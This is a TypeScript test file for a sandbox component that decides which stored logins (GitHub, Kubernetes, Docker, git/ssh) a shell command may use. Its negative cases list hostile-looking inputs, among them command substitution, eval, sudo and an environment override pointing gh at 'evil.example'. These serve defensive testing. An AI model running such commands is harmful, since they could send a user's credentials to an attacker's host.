import assert from "node:assert/strict";
import { it } from "node:test";
import { fixtureContext } from "../../test/support/fixture-context.ts";
import { CREDENTIALS } from "../catalog/credentials.ts";
import { classify } from "../classify/classify.ts";
import { findCredentials } from "./credentials.ts";

const lent = (command: string) => findCredentials(classify(command, fixtureContext())).map(({ words }) => words);

it("a program gets what it needs to ask its service", () => {
  assert.deepEqual(lent("gh pr list"), ["gh's login"]);
  assert.deepEqual(lent("cd src && kubectl get pods | grep api"), ["the cluster's login"]);
  assert.deepEqual(lent("docker ps"), ["docker's socket and logins"]);
  assert.deepEqual(lent("git fetch origin"), ["git's logins and the ssh agent"]);
});

it("nothing is lent where anything beside it isn't literal and known", () => {
  for (const command of [
    "git status",
    "ls",
    "gh pr list; ./x.sh",
    "gh pr list | python3 -c 'x'",
    "gh pr list $x",
    "gh pr list `id`",
    "eval gh pr list",
    "GH_HOST=evil.example gh pr list",
    "gh pr list | unknown-tool",
    "sudo docker ps",
    'bash -c "$x"; gh pr list',
  ]) {
    assert.deepEqual(lent(command), [], command);
  }
});

it("each program is in the table once", () => {
  const names = CREDENTIALS.flatMap(({ programs }) => programs);
  assert.equal(new Set(names).size, names.length);
});
